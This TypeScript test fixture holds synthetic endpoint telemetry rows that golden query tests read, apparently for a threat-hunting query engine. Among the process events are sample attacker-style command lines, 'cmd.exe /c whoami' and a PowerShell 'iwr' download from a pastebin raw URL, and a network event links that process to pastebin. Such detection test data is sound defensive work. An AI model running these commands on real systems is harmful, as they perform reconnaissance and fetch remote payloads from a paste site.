import type { Tables } from "../../src/schema/types.ts";

/** The rows that the queries of `test/goldens` read. */
export const goldenEvents: Tables = {
  DeviceProcessEvents: [
    {
      Timestamp: "2025-01-15T01:00:00Z",
      DeviceId: "d1",
      DeviceName: "ws-01",
      FileName: "WINWORD.EXE",
      ProcessId: 100,
      ProcessCommandLine: "WINWORD.EXE report.docx",
      AdditionalFields: '{"reason":"opened","scores":[3,1]}',
    },
    {
      Timestamp: "2025-01-15T01:05:00Z",
      DeviceId: "d1",
      DeviceName: "ws-01",
      FileName: "cmd.exe",
      ProcessId: 200,
      ProcessCommandLine: "cmd.exe /c whoami",
      AdditionalFields: "",
    },
    {
      Timestamp: "2025-01-15T09:00:00Z",
      DeviceId: "d2",
      DeviceName: "ws-02",
      FileName: "powershell.exe",
      ProcessId: 300,
      ProcessCommandLine: "powershell.exe -c iwr http://pastebin.com/raw/x",
      AdditionalFields: '{"scores":["7"]}',
    },
    {
      Timestamp: "2025-01-14T23:00:00Z",
      DeviceId: "d3",
      DeviceName: "ws-03",
      FileName: "cmd.exe",
      ProcessId: 400,
      ProcessCommandLine: "cmd.exe",
      AdditionalFields: "no json",
    },
  ],
  DeviceNetworkEvents: [
    {
      Timestamp: "2025-01-15T09:00:05Z",
      DeviceId: "d2",
      RemoteUrl: "pastebin.com/raw/x",
      RemotePort: 443,
      InitiatingProcessId: 300,
    },
    {
      Timestamp: "2025-01-15T09:01:00Z",
      DeviceId: "d2",
      RemoteUrl: "notpastebin.com/",
      RemotePort: 80,
      InitiatingProcessId: 301,
    },
    {
      Timestamp: "2025-01-15T10:00:00Z",
      DeviceId: "d1",
      RemoteUrl: "example.com",
      RemotePort: 443,
      InitiatingProcessId: 200,
    },
  ],
};
